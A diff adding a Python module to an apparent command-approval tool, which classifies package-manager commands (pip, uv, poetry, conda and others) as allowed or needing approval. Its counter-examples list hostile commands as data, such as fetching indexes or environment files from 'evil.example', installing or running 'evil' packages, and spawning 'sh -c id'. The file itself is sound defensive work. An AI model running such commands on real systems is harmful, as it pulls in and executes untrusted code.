@@ -1,0 +1,851 @@
+"""Package managers of Python: looking is allowed, installing asks with the exact list, `run` counts as what it runs."""
+
+from __future__ import annotations
+
+from askfirst.model import Action, Kind
+from askfirst.shell.call import Outcome
+from askfirst.shell.tools.engine import call_after, row, unknown
+from askfirst.shell.tools.options import parse
+from askfirst.shell.tools.project_code import from_lock, place_facts, runner, wrapper
+from askfirst.shell.tools.table import Effect, Tool
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from typing import Any
+
+    from askfirst.model import Word
+    from askfirst.shell.call import Analyst, Call
+
+__all__ = ["TOOLS"]
+
+INERT, READS, WRITES, NONE, BELOW = Effect.INERT, Effect.READS, Effect.WRITES, Effect.NONE, Effect.WRITES_BELOW
+_HELP = "-h --help"
+_INDEX = {
+    "-i --index-url --default-index": "uses another package index",
+    "--extra-index-url --index": "uses another package index",
+    "-f --find-links": "uses other packages",
+    "--proxy": "goes through another machine",
+    "--trusted-host --cert --client-cert": "weakens the connection",
+    "--keyring-provider": "runs a program",
+}
+
+
+def packages(operands: tuple[Word, ...]) -> str:
+    return " ".join(w.value if w.value is not None else w.text for w in operands)
+
+
+def _look(name: str, description: str, **more: Any) -> Tool:
+    more.setdefault("operands", INERT)
+    return Tool(name, Kind.READ, description, key_words=len(name.split()), **more)
+
+
+def _install(name: str, description: str, **more: Any) -> Tool:
+    """Asked for, with the packages as what an approval pins."""
+    return Tool(
+        name,
+        Kind.INSTALL,
+        description,
+        allowed=False,
+        any_options=True,
+        operands=INERT,
+        key_words=len(name.split()),
+        target=packages,
+        **more,
+    )
+
+
+def _from_lock(name: str, description: str, **more: Any) -> Tool:
+    """Installs or writes only what the project's own files say: allowed by the profile."""
+    special = more.pop("special", from_lock)
+    return Tool(
+        name, Kind.INSTALL, description, profile="python-dev", special=special, key_words=len(name.split()), **more
+    )
+
+
+def _builds(name: str, **more: Any) -> Tool:
+    more.setdefault("operands", NONE)
+    return Tool(
+        name,
+        Kind.BUILD,
+        "builds the package",
+        profile="python-dev",
+        special=runner,
+        key_words=len(name.split()),
+        **more,
+    )
+
+
+def uv_run(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """`uv run`: a version may be named, an interpreter may not."""
+    outcome = wrapper(tool, call, analyst)
+    odd = [w for w in parse(tool, call.words[1:]).values("-p") if not _is_version(w.value)]
+    doubts = (unknown("option", f"`{w.text}` may be another interpreter", call, w.text) for w in odd)
+    return outcome.replace(facts=(*outcome.facts, *doubts))
+
+
+def _is_version(text: str | None) -> bool:
+    return bool(text) and all(part.isdigit() for part in (text or "").removesuffix("t").split("."))
+
+
+def tool_runner(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """`uvx ruff check .`: a well-known checker is judged like the checker itself; anything else would be fetched and run."""
+    from askfirst.shell.tools.engine import apply
+    from askfirst.shell.tools.python.tools import TOOLS as checkers
+
+    name, _, version = ((call.words[1].value if len(call.words) > 1 else "") or "").partition("@")
+    if name not in _WELL_KNOWN or (version not in ("", "latest") and not _is_version(version)):
+        return row(tool, call, analyst)
+    outcome = apply(checkers[name], call_after(call, call.words[2:]), analyst)
+    action = outcome.action
+    if action.allowed or action.profile:
+        action = action.replace(profile=action.profile or "python-dev")
+    return outcome.replace(action=action.replace(key=(*tool.name.split(), *action.key)))
+
+
+_WELL_KNOWN = frozenset(
+    "ruff black isort flake8 mypy pyright basedpyright codespell bandit vulture ty pyupgrade deptry pip-audit".split()
+)
+
+
+def project_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """`pdm run NAME`, `hatch run ENV:NAME`: a script that pyproject.toml defines, or else a program, which counts as what it is."""
+    from askfirst.shell.tools.engine import facts_of
+    from askfirst.shell.tools.node.runtimes import is_risky_script, script_arguments
+
+    parsed = parse(tool, call.words[1:])
+    first = parsed.operands[0].value if parsed.operands else None
+    name = (first or "").rpartition(":")[2]
+    text = analyst.read_file(f"{call.cwd}/pyproject.toml") if call.cwd is not None else None
+    defined = any(line.strip().replace('"', "").partition("=")[0].strip() == name for line in (text or "").splitlines())
+    if first is None or not name or not (defined or ":" in first):
+        return wrapper(tool, call, analyst)
+    arguments = script_arguments(parsed.operands[1:], call, tool.name)
+    facts = (*facts_of(tool, call, parsed, analyst), *place_facts(tool, call, analyst), *arguments)
+    action = Action(
+        (*tool.name.split(), first), Kind.BUILD, rule=tool.name, description="runs a script of pyproject.toml"
+    )
+    return Outcome(action if is_risky_script(name) else action.replace(allowed=True, profile="python-dev"), facts)
+
+
+def exports(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    outcome = row(tool, call, analyst)
+    return outcome.replace(facts=(*outcome.facts, *place_facts(tool, call, analyst)))
+
+
+_PIP_GLOBAL = (
+    "-v -vv -vvv --verbose -q --quiet -qq --isolated --require-virtualenv --no-input --no-cache-dir --disable-pip-version-check "
+    "--no-color --no-python-version-warning --debug -h --help"
+)
+_PIP_ASKS = {
+    **_INDEX,
+    "--log --log-file --local-log": "writes a file",
+    "--python": "runs another interpreter",
+    "--cache-dir": "writes elsewhere",
+    "--use-feature --use-deprecated": "is not known",
+}
+_PIP_VALUES = "--timeout --retries --exists-action"
+
+
+def _pip(name: str, program: str, description: str, *, flags: str = "", values: str = "", **more: Any) -> Tool:
+    return _look(
+        f"{program} {name}",
+        description,
+        flags=f"{_PIP_GLOBAL} {flags}",
+        values=f"{_PIP_VALUES} {values}",
+        asks=_PIP_ASKS,
+        **more,
+    )
+
+
+def _pip_rows(program: str) -> dict[str, Tool]:
+    return {
+        "list": _pip(
+            "list",
+            program,
+            "lists installed packages",
+            operands=NONE,
+            flags="-o --outdated -u --uptodate -e --editable -l --local --user --pre --not-required --exclude-editable --include-editable",
+            values="--path --format --exclude",
+            examples=(f"{program} list --format=json",),
+            counter_examples=(f"{program} list --log /tmp/x", f"{program} list --index-url https://e.example -o"),
+        ),
+        "show": _pip(
+            "show", program, "shows installed packages", flags="-f --files", examples=(f"{program} show numpy",)
+        ),
+        "freeze": _pip(
+            "freeze",
+            program,
+            "lists installed packages",
+            operands=NONE,
+            flags="-l --local --user --all --exclude-editable",
+            values="--path --exclude",
+            effects={"-r --requirement": READS},
+            examples=(f"{program} freeze",),
+        ),
+        "check": _pip("check", program, "checks dependencies", operands=NONE, examples=(f"{program} check",)),
+        "inspect": _pip(
+            "inspect", program, "lists installed packages", operands=NONE, flags="--local --user", values="--path"
+        ),
+        "debug": _pip(
+            "debug",
+            program,
+            "shows the environment",
+            operands=NONE,
+            values="--platform --python-version --implementation --abi",
+        ),
+        "hash": _pip("hash", program, "hashes files", operands=READS, values="-a --algorithm"),
+        "help": _pip("help", program, "shows help"),
+        "version": _pip("version", program, "shows the version"),
+        "completion": _pip("completion", program, "shows completions", flags="--bash -b --zsh -z --fish"),
+        "search": _pip("search", program, "searches the index"),
+        "index": Tool(
+            f"{program} index",
+            Kind.READ,
+            "asks the index",
+            key_words=2,
+            flags=_PIP_GLOBAL,
+            subcommands={
+                "versions": _look(
+                    f"{program} index versions",
+                    "lists versions",
+                    flags=f"{_PIP_GLOBAL} --pre --json",
+                    values=f"{_PIP_VALUES} --platform --python-version --implementation --abi",
+                    asks=_PIP_ASKS,
+                    examples=(f"{program} index versions requests",),
+                )
+            },
+        ),
+        "config": Tool(
+            f"{program} config",
+            Kind.READ,
+            "shows settings",
+            key_words=2,
+            flags=_PIP_GLOBAL + " --user --global --site",
+            asks={"--editor": "runs a program"},
+            subcommands={
+                "list": _look(
+                    f"{program} config list",
+                    "shows settings",
+                    flags=f"{_PIP_GLOBAL} --user --global --site",
+                    operands=NONE,
+                ),
+                "get": _look(f"{program} config get", "shows a setting"),
+                "debug": _look(f"{program} config debug", "shows settings", operands=NONE),
+            },
+            counter_examples=(f"{program} config --editor x edit", f"{program} config set a b"),
+        ),
+        "cache": Tool(
+            f"{program} cache",
+            Kind.READ,
+            "shows the cache",
+            key_words=2,
+            flags=_PIP_GLOBAL,
+            subcommands={
+                "list": _look(f"{program} cache list", "shows the cache", values="--format"),
+                "dir": _look(f"{program} cache dir", "shows the cache", operands=NONE),
+                "info": _look(f"{program} cache info", "shows the cache", operands=NONE),
+            },
+            counter_examples=(f"{program} cache purge",),
+        ),
+        "install": _install(
+            f"{program} install",
+            "fetches and installs packages, and runs their set-up code",
+            counter_examples=(f"{program} install flask",),
+        ),
+        "uninstall": _install(f"{program} uninstall", "removes packages"),
+        "download": _install(f"{program} download", "fetches packages, and may run their set-up code"),
+        "wheel": _install(f"{program} wheel", "fetches and builds packages"),
+        "lock": _install(f"{program} lock", "resolves packages"),
+    }
+
+
+def _pip_tool(program: str) -> Tool:
+    return Tool(
+        program,
+        Kind.READ,
+        "Python packages",
+        key_words=2,
+        flags=f"{_PIP_GLOBAL} -V --version",
+        values=_PIP_VALUES,
+        asks=_PIP_ASKS,
+        subcommands=_pip_rows(program),
+        examples=(f"{program} --version",),
+    )
+
+
+_UV_GLOBAL = (
+    "-q --quiet -v --verbose --no-progress --offline --no-cache -n --no-config --native-tls --no-python-downloads --managed-python "
+    "--no-managed-python -h --help"
+)
+_UV_VALUES = "--color --python-preference"
+_UV_ASKS = {
+    **_INDEX,
+    "--directory --project": "works elsewhere",
+    "--config-file": "uses other settings",
+    "--cache-dir": "writes elsewhere",
+    "--allow-insecure-host": "weakens the connection",
+    "--index-strategy": "chooses packages differently",
+    "-p --python": "may fetch or run another interpreter",
+}
+_UV_LOCK = (
+    "--frozen --locked --no-install-project --no-install-workspace --no-install-local --all-extras --no-dev --dev --only-dev "
+    "--all-groups --no-default-groups --no-editable --inexact --exact --active --check --dry-run --no-build "
+    "--compile-bytecode --no-sources --all-packages --upgrade -U --refresh --reinstall --isolated "
+    "--no-sync --no-env-file"
+)
+_UV_LOCK_VALUES = (
+    "--extra --no-extra --group --no-group --only-group --package --resolution --prerelease --link-mode --no-install-package -P "
+    "--upgrade-package --output-format"
+)
+
+
+def _uv(name: str, description: str, *, flags: str = "", values: str = "", **more: Any) -> Tool:
+    return _look(
+        f"uv {name}", description, flags=f"{_UV_GLOBAL} {flags}", values=f"{_UV_VALUES} {values}", asks=_UV_ASKS, **more
+    )
+
+
+_UV: dict[str, Tool] = {
+    "version": _uv(
+        "version",
+        "shows the version",
+        operands=NONE,
+        flags="--short",
+        values="--output-format",
+        counter_examples=("uv version --bump patch",),
+    ),
+    "help": _uv("help", "shows help"),
+    "tree": _uv(
+        "tree",
+        "shows dependencies; what is not locked is built for it",
+        profile="python-dev",
+        operands=NONE,
+        flags="--no-dedupe --invert --outdated --universal --frozen --locked --no-dev --show-sizes --all-groups --only-dev",
+        values="-d --depth --prune --package --python-version --python-platform --group --no-group",
+        examples=("uv tree --depth 2",),
+    ),
+    "sync": _from_lock(
+        "uv sync",
+        "installs what the project's lock file says",
+        operands=NONE,
+        flags=f"{_UV_GLOBAL} {_UV_LOCK}",
+        values=f"{_UV_VALUES} {_UV_LOCK_VALUES}",
+        asks=_UV_ASKS,
+        examples=("uv sync --frozen",),
+        counter_examples=("uv sync --index-url https://evil.example", "uv sync --project /tmp/x"),
+    ),
+    "lock": _from_lock(
+        "uv lock",
+        "resolves the project's dependencies",
+        operands=NONE,
+        flags=f"{_UV_GLOBAL} {_UV_LOCK}",
+        values=f"{_UV_VALUES} {_UV_LOCK_VALUES}",
+        asks=_UV_ASKS,
+        examples=("uv lock --upgrade",),
+    ),
+    "venv": _from_lock(
+        "uv venv",
+        "makes a virtual environment",
+        operands=BELOW,
+        flags=f"{_UV_GLOBAL} --seed --allow-existing",
+        values=f"{_UV_VALUES} --prompt -p|--python",
+        asks={**{k: v for k, v in _UV_ASKS.items() if not k.startswith("-p")}, "--clear": "empties a directory"},
+        examples=("uv venv",),
+        counter_examples=("uv venv /opt/x",),
+    ),
+    "export": _from_lock(
+        "uv export",
+        "writes the locked dependencies",
+        special=runner,
+        operands=NONE,
+        flags=f"{_UV_GLOBAL} {_UV_LOCK} --no-hashes --hashes --no-header --no-annotate --no-emit-project --no-emit-workspace",
+        values=f"{_UV_VALUES} {_UV_LOCK_VALUES} --format --no-emit-package --prune",
+        effects={"-o --output-file": WRITES},
+        asks=_UV_ASKS,
+        examples=("uv export --no-dev", "uv export -o requirements.txt"),
+        counter_examples=("uv export -o /etc/x",),
+    ),
+    "run": Tool(
+        "uv run",
+        Kind.WRAPPER,
+        "runs a program in the project's environment",
+        profile="python-dev",
+        special=uv_run,
+        interspersed=False,
+        key_words=2,
+        flags=f"{_UV_GLOBAL} {_UV_LOCK} --no-project",
+        values=f"{_UV_VALUES} {_UV_LOCK_VALUES} --project -p|--python",
+        asks={
+            **{k: v for k, v in _UV_ASKS.items() if not k.startswith(("-p", "--directory"))},
+            "--directory": "works elsewhere",
+            "--with --with-editable --with-requirements -w": "installs further packages",
+            "-m --module": "runs a module",
+            "-s --script --gui-script": "runs a file",
+            "--env-file": "sets variables",
+        },
+        examples=("uv run pytest -q", "uv run --python 3.12 --frozen ruff check ."),
+        counter_examples=(
+            "uv run --python /tmp/evil pytest",
+            "uv run --project /tmp/x pytest",
+            "uv run --with evil python -c 'import evil'",
+            "uv run sh -c id",
+            "uv run rm x",
+            "uv run script.py",
+        ),
+    ),
+    "pip": Tool(
+        "uv pip",
+        Kind.READ,
+        "Python packages",
+        key_words=2,
+        flags=_UV_GLOBAL,
+        subcommands={
+            **{
+                name: tool.replace(
+                    name=f"uv pip {name}",
+                    key_words=3,
+                    flags=f"{tool.flags} {_UV_GLOBAL}",
+                    examples=(),
+                    counter_examples=(),
+                )
+                for name, tool in _pip_rows("pip").items()
+                if name in ("list", "show", "freeze", "check")
+            },
+            "tree": _uv(
+                "pip tree",
+                "shows dependencies",
+                operands=NONE,
+                flags="--no-dedupe --invert --outdated --strict --show-version-specifiers",
+                values="-d --depth --prune --package",
+            ),
+            "install": _install(
+                "uv pip install",
+                "fetches and installs packages, and runs their set-up code",
+                counter_examples=("uv pip install evil",),
+            ),
+            "sync": _install("uv pip sync", "installs packages"),
+            "uninstall": _install("uv pip uninstall", "removes packages"),
+            "compile": _install("uv pip compile", "resolves packages"),
+        },
+    ),
+    "python": Tool(
+        "uv python",
+        Kind.READ,
+        "Python versions",
+        key_words=2,
+        flags=_UV_GLOBAL,
+        subcommands={
+            "list": _uv(
+                "python list",
+                "lists versions",
+                flags="--all-versions --all-platforms --only-installed --only-downloads --show-urls",
+            ),
+            "find": _uv("python find", "finds a version", flags="--system --no-project"),
+            "dir": _uv("python dir", "shows a directory", operands=NONE),
+            "install": _install("uv python install", "fetches Python"),
+            "pin": _install("uv python pin", "chooses Python"),
+        },
+    ),
+    "cache": Tool(
+        "uv cache",
+        Kind.READ,
+        "the cache",
+        key_words=2,
+        flags=_UV_GLOBAL,
+        subcommands={"dir": _uv("cache dir", "shows the cache", operands=NONE)},
+        counter_examples=("uv cache clean",),
+    ),
+    "tool": Tool(
+        "uv tool",
+        Kind.READ,
+        "tools",
+        key_words=2,
+        flags=_UV_GLOBAL,
+        subcommands={
+            "list": _uv("tool list", "lists tools", operands=NONE, flags="--show-paths"),
+            "dir": _uv("tool dir", "shows a directory", operands=NONE),
+            "run": _install("uv tool run", "fetches a package and runs it", special=tool_runner),
+            "install": _install("uv tool install", "installs a program"),
+            "uninstall": _install("uv tool uninstall", "removes a program"),
+        },
+    ),
+    "add": _install("uv add", "adds a dependency and installs it", counter_examples=("uv add evil",)),
+    "remove": _install("uv remove", "removes a dependency"),
+    "build": _builds(
+        "uv build",
+        flags=f"{_UV_GLOBAL} --sdist --wheel --all-packages --clear",
+        effects={"-o --out-dir": BELOW},
+        asks=_UV_ASKS,
+        examples=("uv build --wheel",),
+        counter_examples=("uv build --index-url https://evil.example", "uv build -o /tmp/x", "uv build /tmp/x"),
+    ),
+    "publish": _install("uv publish", "publishes the package"),
+    "init": _install("uv init", "makes a project"),
+}
+
+_POETRY_GLOBAL = (
+    "-q --quiet -n --no-interaction --ansi --no-ansi --no-plugins --no-cache -v -vv -vvv --verbose -h --help"
+)
+_POETRY_ASKS = {"-P --project -C --directory": "works elsewhere"}
+_RUNNERS = {"special": wrapper, "interspersed": False, "profile": "python-dev", "kind": Kind.WRAPPER}
+
+
+def _run(name: str, flags: str = "", asks: dict[str, str] | None = None, **more: Any) -> Tool:
+    return Tool(
+        name,
+        Kind.WRAPPER,
+        "runs a program in the project's environment",
+        profile="python-dev",
+        interspersed=False,
+        key_words=len(name.split()),
+        flags=flags,
+        asks=asks or {},
+        special=more.pop("special", wrapper),
+        **more,
+    )
+
+
+def hatch_test(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """What stands behind `--` are pytest's own arguments."""
+    from askfirst.shell.tools.python.tools import TOOLS as checkers
+
+    at = next((i for i, w in enumerate(call.words) if w.value == "--"), len(call.words))
+    outcome = runner(tool, call.replace(words=call.words[:at]), analyst)
+    tests = checkers["pytest"]
+    inner = (tests.special or row)(tests, call_after(call, call.words[at + 1 :]), analyst)
+    return outcome.replace(facts=(*outcome.facts, *inner.facts))
+
+
+TOOLS: dict[str, Tool] = {
+    **{program: _pip_tool(program) for program in ("pip", "pip3", *(f"pip3.{minor}" for minor in range(8, 15)))},
+    "uv": Tool(
+        "uv",
+        Kind.READ,
+        "Python packages and environments",
+        key_words=2,
+        flags=f"{_UV_GLOBAL} -V --version",
+        values=_UV_VALUES,
+        asks=_UV_ASKS,
+        subcommands=_UV,
+        examples=("uv --version",),
+    ),
+    "uvx": _install(
+        "uvx",
+        "fetches a package and runs it",
+        special=tool_runner,
+        examples=("uvx ruff check .", "uvx ruff@0.9.1 format --check", "uvx black --check ."),
+        counter_examples=(
+            "uvx evil",
+            "uvx --from evil ruff",
+            "uvx --with evil ruff check",
+            "uvx ruff check --config /tmp/x",
+            "uvx ruff@evil check",
+        ),
+    ),
+    "pipx": Tool(
+        "pipx",
+        Kind.READ,
+        "programs from packages",
+        key_words=2,
+        flags="--version -h --help -q -v",
+        subcommands={
+            "list": _look(
+                "pipx list", "lists programs", operands=NONE, flags="--short --json --include-injected --pinned"
+            ),
+            "environment": _look("pipx environment", "shows settings", operands=NONE, values="-V --value"),
+            "run": _install("pipx run", "fetches a package and runs it", counter_examples=("pipx run evil",)),
+            "install": _install("pipx install", "installs a program"),
+            "uninstall": _install("pipx uninstall", "removes a program"),
+        },
+    ),
+    "poetry": Tool(
+        "poetry",
+        Kind.READ,
+        "Python packages",
+        key_words=2,
+        flags=f"{_POETRY_GLOBAL} -V --version",
+        asks=_POETRY_ASKS,
+        subcommands={
+            "show": _look(
+                "poetry show",
+                "shows dependencies",
+                flags=f"{_POETRY_GLOBAL} -t --tree -l --latest -o --outdated -a --all -T --top-level --no-truncate --why",
+                values="--only --without --with -f --format",
+                asks=_POETRY_ASKS,
+                examples=("poetry show --tree",),
+            ),
+            "check": _look(
+                "poetry check", "checks the settings", operands=NONE, flags=f"{_POETRY_GLOBAL} --lock --strict"
+            ),
+            "version": _look(
+                "poetry version",
+                "shows the version",
+                operands=NONE,
+                flags=f"{_POETRY_GLOBAL} -s --short",
+                counter_examples=("poetry version patch",),
+            ),
+            "about": _look("poetry about", "shows the version", operands=NONE, flags=_POETRY_GLOBAL),
+            "search": _look("poetry search", "searches the index", flags=_POETRY_GLOBAL),
+            "list": _look("poetry list", "lists commands", operands=NONE, flags=_POETRY_GLOBAL),
+            "env": Tool(
+                "poetry env",
+                Kind.READ,
+                "environments",
+                key_words=2,
+                flags=_POETRY_GLOBAL,
+                subcommands={
+                    "info": _look(
+                        "poetry env info",
+                        "shows the environment",
+                        operands=NONE,
+                        flags=f"{_POETRY_GLOBAL} -p --path -e --executable --full-path",
+                    ),
+                    "list": _look(
+                        "poetry env list", "lists environments", operands=NONE, flags=f"{_POETRY_GLOBAL} --full-path"
+                    ),
+                },
+            ),
+            "run": _run("poetry run", _POETRY_GLOBAL, _POETRY_ASKS, counter_examples=("poetry run sh -c id",)),
+            "add": _install("poetry add", "adds a dependency and installs it", counter_examples=("poetry add evil",)),
+            "install": _from_lock(
+                "poetry install",
+                "installs what the lock file says",
+                operands=NONE,
+                flags=f"{_POETRY_GLOBAL} --no-root --no-directory --dry-run --all-extras --all-groups --only-root --compile --sync",
+                values="--with --without --only -E --extras",
+                asks=_POETRY_ASKS,
+                examples=("poetry install --with dev --no-root",),
+                counter_examples=("poetry install -C /tmp/x",),
+            ),
+            "sync": _from_lock(
+                "poetry sync",
+                "installs what the lock file says",
+                operands=NONE,
+                flags=f"{_POETRY_GLOBAL} --no-root --all-extras --all-groups",
+                values="--with --without --only -E --extras",
+                asks=_POETRY_ASKS,
+            ),
+            "update": _install("poetry update", "updates dependencies"),
+            "remove": _install("poetry remove", "removes a dependency"),
+            "lock": _from_lock(
+                "poetry lock",
+                "resolves dependencies",
+                operands=NONE,
+                flags=f"{_POETRY_GLOBAL} --no-update --regenerate --check",
+                asks=_POETRY_ASKS,
+            ),
+            "build": _builds(
+                "poetry build", flags=f"{_POETRY_GLOBAL} --clean", values="-f --format", asks=_POETRY_ASKS
+            ),
+            "config": _look("poetry config", "shows settings", operands=NONE, flags=f"{_POETRY_GLOBAL} --list --local"),
+            "publish": _install("poetry publish", "publishes the package"),
+        },
+    ),
+    "pipenv": Tool(
+        "pipenv",
+        Kind.READ,
+        "Python packages",
+        key_words=2,
+        flags="--version --where --venv --py --envs -h --help",
+        subcommands={
+            "graph": _look(
+                "pipenv graph", "shows dependencies", operands=NONE, flags="--bare --json --json-tree --reverse"
+            ),
+            "run": _run("pipenv run", counter_examples=("pipenv run touch /tmp/x",)),
+            "verify": _look("pipenv verify", "checks the lock file", operands=NONE),
+            "scripts": _look("pipenv scripts", "lists scripts", operands=NONE),
+            "install": _install("pipenv install", "installs packages"),
+            "sync": _from_lock(
+                "pipenv sync", "installs what the lock file says", operands=NONE, flags="-d --dev -v --verbose --bare"
+            ),
+        },
+    ),
+    "pdm": Tool(
+        "pdm",
+        Kind.READ,
+        "Python packages",
+        key_words=2,
+        flags="-V --version -h --help -q -v",
+        subcommands={
+            "list": _look("pdm list", "lists packages", flags="--tree --graph --json --freeze --csv"),
+            "show": _look("pdm show", "shows a package"),
+            "info": _look(
+                "pdm info", "shows the environment", operands=NONE, flags="--python --where --packages --env"
+            ),
+            "add": _install("pdm add", "adds a dependency"),
+            **{
+                name: _from_lock(
+                    f"pdm {name}",
+                    "installs what the lock file says",
+                    operands=NONE,
+                    flags="-q -v --dev --prod -d --no-self --no-editable --frozen-lockfile --check --clean --no-lock --no-isolation",
+                    values="-G --group --with --without -x --exclude-group",
+                    asks={"-p --project -g --global": "works elsewhere"},
+                )
+                for name in ("install", "sync", "lock")
+            },
+            "run": _run(
+                "pdm run",
+                "-q -v -s --site-packages --no-site-packages",
+                {"-p --project -g --global --venv -e --env-file": "works elsewhere"},
+                special=project_script,
+                counter_examples=("pdm run sh -c id", "pdm run -p /tmp/x pytest", "pdm run touch /tmp/x"),
+                examples=("pdm run pytest -q",),
+            ),
+            "build": _builds("pdm build", flags="-q -v --no-sdist --no-wheel", effects={"-d --dest": BELOW}),
+        },
+    ),
+    "hatch": Tool(
+        "hatch",
+        Kind.READ,
+        "Python projects",
+        key_words=2,
+        flags="--version -h --help",
+        subcommands={
+            "version": _look(
+                "hatch version", "shows the version, by loading the project", operands=NONE, profile="python-dev"
+            ),
+            "status": _look("hatch status", "shows the project", operands=NONE, profile="python-dev"),
+            "test": Tool(
+                "hatch test",
+                Kind.BUILD,
+                "runs the project's tests",
+                profile="python-dev",
+                special=hatch_test,
+                key_words=2,
+                operands=INERT,
+                flags="-a --all -c --cover -p --parallel -r --randomize -q -s --show",
+                examples=("hatch test -a tests/unit", "hatch test -- -k foo"),
+                counter_examples=("hatch test -- --rootdir=/tmp/x", "hatch test -- -p evil"),
+            ),
+            "run": _run(
+                "hatch run",
+                special=project_script,
+                examples=("hatch run pytest -q", "hatch run test:unit"),
+                counter_examples=("hatch run touch /tmp/x", "hatch run prod:deploy", "hatch run sh -c id"),
+            ),
+            "fmt": Tool(
+                "hatch fmt",
+                Kind.BUILD,
+                "lints and formats",
+                profile="python-dev",
+                special=runner,
+                key_words=2,
+                operands=INERT,
+                flags="--check -l --linter -f --formatter --preview",
+                examples=("hatch fmt --check",),
+                counter_examples=("hatch fmt --sync",),
+            ),
+            "build": _builds("hatch build", flags="-c --clean", values="-t --target"),
+            "env": Tool(
+                "hatch env",
+                Kind.READ,
+                "environments",
+                key_words=2,
+                subcommands={"show": _look("hatch env show", "shows environments")},
+            ),
+        },
+    ),
+    "rye": Tool(
+        "rye",
+        Kind.READ,
+        "Python projects",
+        key_words=2,
+        flags="--version -h --help",
+        subcommands={
+            "show": _look("rye show", "shows the project", operands=NONE),
+            "list": _look("rye list", "lists packages", operands=NONE),
+        },
+    ),
+    **{
+        program: Tool(
+            program,
+            Kind.READ,
+            "packages and environments",
+            key_words=2,
+            flags="-V --version -h --help",
+            subcommands={
+                "list": _look(
+                    f"{program} list",
+                    "lists packages",
+                    flags="--json -e --export -f --full-name -c --canonical --explicit -r --revisions --no-pip",
+                    values="-n --name -p --prefix",
+                ),
+                "info": _look(
+                    f"{program} info",
+                    "shows the installation",
+                    operands=INERT,
+                    flags="-a --all -e --envs -s --system --json --base",
+                ),
+                "search": _look(f"{program} search", "searches packages", flags="--info -i --json"),
+                "config": Tool(
+                    f"{program} config",
+                    Kind.READ,
+                    "shows settings",
+                    operands=NONE,
+                    flags="--show --show-sources --json",
+                    values="--get",
+                    key_words=2,
+                ),
+                "env": Tool(
+                    f"{program} env",
+                    Kind.READ,
+                    "environments",
+                    key_words=2,
+                    subcommands={
+                        "list": _look(
+                            f"{program} env list",
+                            "lists environments",
+                            operands=NONE,
+                            flags="--json",
+                            examples=(f"{program} env list",),
+                        ),
+                        "create": _install(f"{program} env create", "makes an environment from a file"),
+                        "export": _look(
+                            f"{program} env export",
+                            "shows an environment",
+                            operands=NONE,
+                            flags="--no-builds --from-history --json",
+                            values="-n --name",
+                        ),
+                    },
+                ),
+                "run": _run(
+                    f"{program} run",
+                    "--no-capture-output --live-stream -v",
+                    {"-p --prefix --cwd": "works elsewhere"},
+                    values="-n --name",
+                    examples=(f"{program} run -n dev pytest -q",),
+                    counter_examples=(f"{program} run touch /tmp/x", f"{program} run -p /tmp/x pytest"),
+                ),
+                "create": _install(f"{program} create", "makes an environment"),
+                "install": _install(f"{program} install", "installs packages"),
+            },
+            counter_examples=(f"{program} env create -f https://evil.example/e.yml",),
+        )
+        for program in ("conda", "mamba", "micromamba")
+    },
+    "virtualenv": Tool(
+        "virtualenv",
+        Kind.EDIT,
+        "makes a virtual environment",
+        profile="python-dev",
+        operands=BELOW,
+        least=1,
+        flags="-q -v --no-pip --version -h --help",
+        values="--prompt",
+    ),
+    "twine": Tool(
+        "twine",
+        Kind.NETWORK,
+        "publishes packages",
+        allowed=False,
+        any_options=True,
+        key_words=2,
+        danger="publishes to a package index: what is there stays, and others install it",
+        subcommands={"check": _look("twine check", "checks packages", operands=READS, flags="--strict")},
+    ),
+    "easy_install": _install(
+        "easy_install", "fetches and installs packages", counter_examples=("easy_install /tmp/evil",)
+    ),
+}
